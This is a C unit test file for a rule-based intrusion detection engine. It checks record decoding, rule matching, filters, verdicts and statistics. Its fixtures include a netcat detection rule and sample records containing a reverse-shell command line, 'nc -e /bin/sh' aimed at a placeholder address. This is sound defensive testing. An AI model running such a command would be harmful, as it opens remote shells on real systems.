/* SPDX-License-Identifier: Apache-2.0 */

/* core/engine/worker.c and decode.c: records in, findings out */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "core/event/event.h"
#include "core/rules/content.h"
#include "tests/unit/engine/pipeline.h"

static const char windows_rule[] = "title: Whoami\n"
                                   "id: 11111111-2222-3333-4444-555555555555\n"
                                   "level: high\n"
                                   "logsource:\n"
                                   "    product: windows\n"
                                   "    category: process_creation\n"
                                   "detection:\n"
                                   "    selection:\n"
                                   "        Image|endswith: '\\whoami.exe'\n"
                                   "    condition: selection\n";

static const char netcat_rule[] = "title: Netcat\n"
                                  "id: 22222222-2222-3333-4444-555555555555\n"
                                  "level: medium\n"
                                  "logsource:\n"
                                  "    product: linux\n"
                                  "    category: process_creation\n"
                                  "detection:\n"
                                  "    selection:\n"
                                  "        CommandLine|contains: ' -e '\n"
                                  "    condition: selection\n";

static const char netcat_filter[] = "---\n"
                                    "title: Our own netcat\n"
                                    "id: 33333333-2222-3333-4444-555555555555\n"
                                    "logsource:\n"
                                    "    product: linux\n"
                                    "    category: process_creation\n"
                                    "filter:\n"
                                    "    rules:\n"
                                    "        - 22222222-2222-3333-4444-555555555555\n"
                                    "    selection:\n"
                                    "        Image|startswith: /opt/\n"
                                    "    condition: selection\n";

static const char whoami_line[] =
    "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1,"
    "\"UtcTime\":\"2024-07-19 04:09:00.000\",\"Image\":\"C:\\\\Windows\\\\whoami.exe\","
    "\"CommandLine\":\"whoami /all\",\"ProcessId\":\"7\"}";

/* What the callbacks saw. */
typedef struct seen {
    uint32_t events;
    uint32_t findings;
    uint32_t verdicts;
    uint64_t ticket;
    uint64_t seq; /* of the finding's record */
    uint32_t verdict;
    uint32_t last_class;
    char rule_id[64];
    char last_reason[300];
    sonda_worker *reenter; /* not NULL: call this worker from inside */
    sonda_status reentered;
    const char *expected_value; /* of the first evidence */
} seen;

static seen saw;
static sonda_engine *engine;
static sonda_tracker *tracker;
static sonda_worker *worker;
static uint8_t record[8192];

static void on_event(const sonda_event *event, void *user)
{
    seen *s = user;
    sonda_field_view view = SONDA_FIELD_VIEW_INIT;

    s->events++;
    s->last_class = sonda_event_class(event);
    if (sonda_event_find(event, SONDA_FIELD_LOSS_REASON, &view) == SONDA_OK) {
        memcpy(s->last_reason, view.text, view.text_len);
        s->last_reason[view.text_len] = '\0';
    }
}

static void on_finding(const sonda_finding *finding, void *user)
{
    seen *s = user;
    sonda_rule_view rule = SONDA_RULE_VIEW_INIT;
    sonda_evidence_view evidence = SONDA_EVIDENCE_VIEW_INIT;

    s->findings++;
    s->seq = sonda_finding_record(finding)->seq;
    assert_int_equal(sonda_finding_rule(finding, &rule), SONDA_OK);
    memcpy(s->rule_id, rule.id.data, rule.id.len);
    s->rule_id[rule.id.len] = '\0';
    if (s->expected_value != NULL) {
        assert_int_equal(sonda_finding_evidence(finding, 0, &evidence), SONDA_OK);
        assert_int_equal(evidence.value_len, strlen(s->expected_value));
        assert_memory_equal(evidence.value, s->expected_value, evidence.value_len);
    }
    if (s->reenter != NULL) {
        s->reentered = sonda_worker_process(s->reenter, record, sizeof record, 0);
    }
}

static void
on_verdict(uint64_t ticket, sonda_verdict verdict, const sonda_finding *finding, void *user)
{
    seen *s = user;

    assert_null(finding);
    s->verdicts++;
    s->ticket = ticket;
    s->verdict = verdict;
}

static int open_all(void **state)
{
    sonda_worker_options options = SONDA_WORKER_OPTIONS_INIT;

    (void)state;
    memset(&saw, 0, sizeof saw);
    options.on_event = on_event;
    options.on_finding = on_finding;
    options.on_verdict = on_verdict;
    options.user = &saw;
    return sonda_engine_open(&engine, NULL, NULL) == SONDA_OK &&
                   sonda_tracker_open(&tracker, NULL, NULL) == SONDA_OK &&
                   sonda_worker_open(&worker, engine, tracker, &options, NULL) == SONDA_OK
               ? 0
               : -1;
}

static int close_all(void **state)
{
    (void)state;
    sonda_worker_close(worker);
    sonda_tracker_close(tracker);
    sonda_engine_close(engine);
    return 0;
}

static void publish(const char *yaml)
{
    sonda_content *content = content_of(yaml);

    assert_int_equal(sonda_engine_publish(engine, content), SONDA_OK);
    sonda_content_release(content);
}

static sonda_stats stats(void)
{
    sonda_stats now = SONDA_STATS_INIT;

    assert_int_equal(sonda_worker_stats(worker, &now), SONDA_OK);
    return now;
}

static size_t netcat_record(uint16_t flags, uint64_t ticket)
{
    sonda_record_header header = {0};

    header.flags = flags;
    header.ticket = ticket;
    header.seq = 1;
    header.wall_ns = 1000000000;
    return launch_record(record, sizeof record, &header, "/usr/bin/nc",
                         "nc -e /bin/sh 1.2.3.4");
}

static void test_process__flat_windows_json__gives_the_finding(void **state)
{
    size_t len = wrap_text(record, SONDA_SOURCE_JSON, 1, whoami_line);

    (void)state;
    publish(windows_rule);
    saw.expected_value = "C:\\Windows\\whoami.exe";

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);

    assert_int_equal(saw.events, 1);
    assert_int_equal(saw.findings, 1);
    assert_string_equal(saw.rule_id, "11111111-2222-3333-4444-555555555555");
    assert_int_equal(stats().findings_by_level[SONDA_LEVEL_HIGH], 1);
}

static void test_process__portable_instructions__give_the_finding(void **state)
{
    sonda_worker_options options = SONDA_WORKER_OPTIONS_INIT;
    size_t len = wrap_text(record, SONDA_SOURCE_JSON, 1, whoami_line);

    (void)state;
    publish(windows_rule);
    options.simd = SONDA_SIMD_PORTABLE;
    options.on_finding = on_finding;
    options.user = &saw;
    sonda_worker_close(worker);
    worker = NULL;
    assert_int_equal(sonda_worker_open(&worker, engine, tracker, &options, NULL), SONDA_OK);

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);
    assert_int_equal(saw.findings, 1);
    len = netcat_record(0, 0);
    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);
    assert_int_equal(saw.findings, 1);
}

static void test_open__unknown_instructions__is_refused(void **state)
{
    sonda_worker_options options = SONDA_WORKER_OPTIONS_INIT;
    sonda_worker *opened = NULL;

    (void)state;
    options.simd = SONDA_SIMD_PORTABLE + 1;
    assert_int_equal(sonda_worker_open(&opened, engine, tracker, &options, NULL),
                     SONDA_ERR_INVALID_ARGUMENT);
    assert_null(opened);
}

static void test_process__near_miss__gives_the_event_only(void **state)
{
    size_t len = wrap_text(record, SONDA_SOURCE_JSON, 1,
                           "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
                           "\"EventID\":1,\"Image\":\"C:\\\\Windows\\\\whoami2.exe\"}");

    (void)state;
    publish(windows_rule);

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);

    assert_int_equal(saw.events, 1);
    assert_int_equal(saw.findings, 0);
    assert_int_equal(stats().evaluated, 0);
}

static void test_process__no_content__shows_events_and_finds_nothing(void **state)
{
    size_t len = netcat_record(0, 0);

    (void)state;
    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);

    assert_int_equal(saw.events, 1);
    assert_int_equal(saw.findings, 0);
}

static void test_process__broken_json__is_counted_and_the_next_is_read(void **state)
{
    size_t len = wrap_text(record, SONDA_SOURCE_JSON, 1, "{\"Channel\": \"x\", oops}");

    (void)state;
    publish(windows_rule);

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_ERR_MALFORMED);
    assert_int_equal(sonda_worker_error(worker)->status, SONDA_ERR_MALFORMED);
    assert_int_equal(sonda_worker_error(worker)->offset, 17);
    assert_int_equal(saw.events, 0);
    len = wrap_text(record, SONDA_SOURCE_JSON, 2, whoami_line);
    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);
    assert_int_equal(saw.findings, 1);
    assert_int_equal(stats().malformed, 1);
    assert_int_equal(stats().records, 2);
}

static void test_process__longer_than_the_maximum__becomes_a_health_event(void **state)
{
    static uint8_t huge[SONDA_RECORD_MAX + 1];

    (void)state;
    assert_int_equal(sonda_worker_process(worker, huge, sizeof huge, 5), SONDA_ERR_LIMIT);

    assert_int_equal(saw.events, 1);
    assert_int_equal(saw.last_class, SONDA_CLASS_BASE);
    assert_string_equal(saw.last_reason, "record header: beyond a limit");
    assert_int_equal(stats().beyond_limit, 1);
    assert_int_equal(stats().health, 1);
}

static void test_process__unknown_source__is_unsupported(void **state)
{
    size_t len = wrap_text(record, 777, 1, "x");

    (void)state;
    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_ERR_UNSUPPORTED);
    assert_int_equal(stats().unsupported, 1);
}

static void test_process__vendor_source__is_read_as_generic(void **state)
{
    size_t len = netcat_record(0, 0);

    (void)state;
    record[4] = 0x34;
    record[5] = 0x92;
    publish(netcat_rule);

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);
    assert_int_equal(saw.findings, 1);
}

static void test_process__snapshot__is_tracked_only(void **state)
{
    size_t len = netcat_record(SONDA_RECORD_SNAPSHOT, 0);
    sonda_process_view view = SONDA_PROCESS_VIEW_INIT;

    (void)state;
    publish(netcat_rule);

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);

    assert_int_equal(saw.events, 0);
    assert_int_equal(saw.findings, 0);
    assert_int_equal(stats().snapshots, 1);
    assert_int_equal(sonda_tracker_process(tracker, 11, 2000, 0, &view), SONDA_OK);
    assert_int_equal(view.flags, SONDA_PROCESS_SNAPSHOT);
}

static void test_process__ticket__is_allowed_once_after_its_findings(void **state)
{
    size_t len = netcat_record(0, 99);

    (void)state;
    publish(netcat_rule);

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);

    assert_int_equal(saw.findings, 1);
    assert_int_equal(saw.verdicts, 1);
    assert_int_equal(saw.ticket, 99);
    assert_int_equal(saw.verdict, SONDA_VERDICT_ALLOW);
}

static void test_process__ticket_of_an_unreadable_payload__is_answered_too(void **state)
{
    size_t len = netcat_record(0, 99);

    (void)state;
    record[SONDA_RECORD_HEADER_SIZE + 16] = 0xff; /* a field id that does not exist */
    record[SONDA_RECORD_HEADER_SIZE + 17] = 0xff;

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_ERR_MALFORMED);
    assert_int_equal(saw.verdicts, 1);
}

static void test_process__from_inside_a_callback__is_bad_state(void **state)
{
    size_t len = netcat_record(0, 0);

    (void)state;
    publish(netcat_rule);
    saw.reenter = worker;

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);
    assert_int_equal(saw.reentered, SONDA_ERR_BAD_STATE);
    assert_int_equal(saw.findings, 1);
}

static void test_process__filter_applies__suppresses_and_counts(void **state)
{
    char yaml[sizeof netcat_rule + sizeof netcat_filter];
    sonda_record_header header = {0};
    size_t len;

    (void)state;
    memcpy(yaml, netcat_rule, sizeof netcat_rule - 1);
    memcpy(yaml + sizeof netcat_rule - 1, netcat_filter, sizeof netcat_filter);
    publish(yaml);
    len = launch_record(record, sizeof record, &header, "/opt/nc", "nc -e x");

    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);
    assert_int_equal(saw.findings, 0);
    assert_int_equal(stats().suppressed_filter, 1);
    len = netcat_record(0, 0);
    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);
    assert_int_equal(saw.findings, 1);
}

static const char native_rules[] = "title: Size\n"
                                   "id: 44444444-2222-3333-4444-555555555554\n"
                                   "logsource:\n"
                                   "    product: linux\n"
                                   "    category: process_creation\n"
                                   "detection:\n"
                                   "    selection:\n"
                                   "        AnySize: small\n"
                                   "        Colour: red\n"
                                   "    condition: 1 of selection\n";

static const char colour_rule[] = "title: Colour\n"
                                  "id: 44444444-2222-3333-4444-555555555555\n"
                                  "logsource:\n"
                                  "    product: linux\n"
                                  "    category: process_creation\n"
                                  "detection:\n"
                                  "    selection:\n"
                                  "        Colour: red\n"
                                  "    condition: selection\n";

static size_t colour_record(void)
{
    const sonda_record_header header = {0};
    sonda_record_builder builder;
    size_t len = 0;

    (void)sonda_record_begin(&builder, record, sizeof record, &header, SONDA_CLASS_PROCESS,
                             SONDA_PROCESS_LAUNCH, SONDA_PRODUCT_LINUX);
    (void)sonda_record_add_named(&builder, "Colour", 6, "red", 3);
    assert_int_equal(sonda_record_finish(&builder, SONDA_SOURCE_GENERIC, 0, &len), SONDA_OK);
    return len;
}

static void test_match__decoded_under_other_content__resolves_names_anew(void **state)
{
    sonda_event *event = NULL;

    (void)state;
    assert_int_equal(sonda_event_open(&event, NULL), SONDA_OK);
    publish(netcat_rule);
    assert_int_equal(sonda_worker_decode(worker, record, colour_record(), 0, event), SONDA_OK);
    publish(colour_rule);

    assert_int_equal(sonda_worker_match(worker, event, 0), SONDA_OK);

    assert_int_equal(saw.findings, 1);
    assert_int_equal(stats().content_switches, 2);
    sonda_event_close(event);
}

/* New content may stand where the released one stood: addresses prove nothing. */
static void test_match__names_at_the_same_address__are_still_resolved_anew(void **state)
{
    sonda_event *event = NULL;
    sonda_content *content = NULL;

    (void)state;
    assert_int_equal(sonda_event_open(&event, NULL), SONDA_OK);
    publish(native_rules);
    assert_int_equal(sonda_worker_decode(worker, record, colour_record(), 0, event), SONDA_OK);
    publish(colour_rule);
    assert_int_equal(sonda_engine_acquire_content(engine, &content), SONDA_OK);
    event->names = sonda__content_names(content);

    assert_int_equal(sonda_worker_match(worker, event, 0), SONDA_OK);

    assert_int_equal(saw.findings, 1);
    sonda_content_release(content);
    sonda_event_close(event);
}

static void test_process__audit_lines_of_one_serial__give_one_finding_more(void **state)
{
    static const char *const lines[] = {
        "type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=59 pid=9",
        "type=EXECVE msg=audit(1364481363.243:24287): argc=3 a0=\"nc\" a1=\"-e\" a2=\"sh\"",
        "type=EOE msg=audit(1364481363.243:24287): ",
    };

    (void)state;
    publish(netcat_rule);
    for (size_t i = 0; i < 3; i++) {
        size_t len = wrap_text(record, SONDA_SOURCE_AUDIT, i + 1, lines[i]);

        assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);
    }

    assert_int_equal(saw.findings, 1);
    assert_int_equal(saw.seq, 1);
    assert_int_equal(stats().derived, 1);
    assert_int_equal(stats().events, 4);
}

static void test_finish__serial_without_its_end__is_evaluated(void **state)
{
    size_t len = wrap_text(record, SONDA_SOURCE_AUDIT, 7,
                           "type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e "
                           "syscall=59 success=yes exit=0 pid=3538 exe=\"/usr/bin/nc\"");

    (void)state;
    assert_int_equal(sonda_worker_process(worker, record, len, 0), SONDA_OK);
    assert_int_equal(stats().derived, 0);

    assert_int_equal(sonda_worker_finish(worker, 0), SONDA_OK);

    assert_int_equal(stats().derived, 1);
}

static void test_stats__two_parts__add_up(void **state)
{
    sonda_stats total = SONDA_STATS_INIT;
    sonda_stats part;

    (void)state;
    (void)sonda_worker_process(worker, record, netcat_record(0, 0), 0);
    part = stats();
    assert_int_equal(sonda_stats_add(&total, &part), SONDA_OK);
    assert_int_equal(sonda_stats_add(&total, &part), SONDA_OK);

    assert_int_equal(total.records, 2);
    assert_int_equal(total.content_switches, 2 * part.content_switches);
    assert_int_equal(sonda_stats_class(1), SONDA_CLASS_PROCESS);
    assert_int_equal(total.events_by_class[1], 2);
    assert_int_equal(total.struct_size, sizeof total);
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, open_all, close_all)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(test_process__flat_windows_json__gives_the_finding),
        TEST(test_process__portable_instructions__give_the_finding),
        TEST(test_open__unknown_instructions__is_refused),
        TEST(test_process__near_miss__gives_the_event_only),
        TEST(test_process__no_content__shows_events_and_finds_nothing),
        TEST(test_process__broken_json__is_counted_and_the_next_is_read),
        TEST(test_process__longer_than_the_maximum__becomes_a_health_event),
        TEST(test_process__unknown_source__is_unsupported),
        TEST(test_process__vendor_source__is_read_as_generic),
        TEST(test_process__snapshot__is_tracked_only),
        TEST(test_process__ticket__is_allowed_once_after_its_findings),
        TEST(test_process__ticket_of_an_unreadable_payload__is_answered_too),
        TEST(test_process__from_inside_a_callback__is_bad_state),
        TEST(test_process__filter_applies__suppresses_and_counts),
        TEST(test_match__decoded_under_other_content__resolves_names_anew),
        TEST(test_match__names_at_the_same_address__are_still_resolved_anew),
        TEST(test_process__audit_lines_of_one_serial__give_one_finding_more),
        TEST(test_finish__serial_without_its_end__is_evaluated),
        TEST(test_stats__two_parts__add_up),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
